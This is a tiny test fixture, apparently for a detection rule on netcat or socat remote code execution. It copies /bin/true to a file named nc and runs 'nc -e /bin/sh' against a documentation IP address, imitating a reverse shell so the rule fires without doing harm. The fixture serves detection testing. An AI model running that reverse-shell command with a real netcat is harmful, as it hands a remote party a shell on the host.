# rule: Netcat/Socat Remote Code Execution on Host
# title: netcat is to hand out a shell of the node
# where: node
cp /bin/true "$PLACE/nc"; "$PLACE/nc" -e /bin/sh 192.0.2.1 1
